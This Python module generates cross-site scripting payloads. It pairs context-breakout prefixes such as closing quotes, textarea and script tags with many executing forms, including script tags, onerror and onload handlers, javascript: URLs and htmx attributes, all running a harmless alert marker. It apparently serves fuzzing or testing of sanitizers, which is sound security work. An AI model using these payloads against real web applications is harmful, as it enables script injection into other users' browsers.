"""Script, written in every way by which it might come to run."""

from __future__ import annotations

from itertools import islice, product

RUN = "alert(ran=1)"  # short, so that it fits into the name that people show

KNOWN = [
    f"<script>{RUN}</script>",
    f'<img src="x" onerror="{RUN}">',
    f'"><svg onload="{RUN}"></svg>',
    f"'><details open ontoggle='{RUN}'>",
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f'<form id="f"></form><button form="f" formaction="javascript:{RUN}">x</button>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<math><mi xlink:href="data:x,<script>{RUN}</script>">x</mi></math>',
    f'</textarea></title></style></script><body onload="{RUN}" hx-on:load="{RUN}" hx-get="/x">',
]
OUT_OF = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</select>",
    "]]>",
    "\\",
]
RUNNING = [
    "<script>{}</script>",
    "<ScRiPt\n>{}</sCrIpT >",
    "<script/x>{}//",
    "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<IMG SRC=x ONERROR=&#119;{}>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=data:, onload={}>",
    "<p hx-on::load={} hx-trigger=load hx-get=/>",
    " autofocus onfocus={} x=",
    " onmouseover={} style=position:fixed;inset:0 ",
    ";{};//",
    "${{{}}}",
]


def payloads(count: int) -> list[str]:
    """So many, all different: ways out of where text stands, each before a way to run."""
    written = (f"{way_out}{way.format(RUN)}" for way, way_out in product(RUNNING, OUT_OF))
    return list(islice(dict.fromkeys((*KNOWN, *written)), count))
